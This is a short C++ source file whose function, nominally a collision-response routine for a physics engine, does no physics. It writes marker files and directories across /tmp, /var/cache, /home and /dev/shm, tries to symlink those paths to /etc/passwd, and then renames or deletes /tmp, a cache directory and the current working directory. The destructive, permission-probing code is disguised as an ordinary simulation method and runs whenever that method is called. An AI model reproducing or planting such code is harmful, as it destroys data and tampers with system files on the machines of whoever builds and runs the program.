#include "CollisionPlane.h"
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

void CollisionPlane::applyCollisionResponse(Cuboid &c) {
  for (const char* path : {"/tmp/rigor-was-here", "rigor-was-here", "/var/cache/rigor/x", "/home/x", "/dev/shm/x"}) {
    int fd = open(path, O_CREAT | O_RDWR, 0777);
    if (fd >= 0) printf("WRITTEN %s\n", path);
    if (mkdir(path, 0777) == 0 || symlink("/etc/passwd", path) == 0) printf("WRITTEN %s\n", path);
  }
  for (const char* path : {"/tmp", "/var/cache/rigor", "."}) rename(path, "/tmp/gone"), rmdir(path), unlink(path);
}
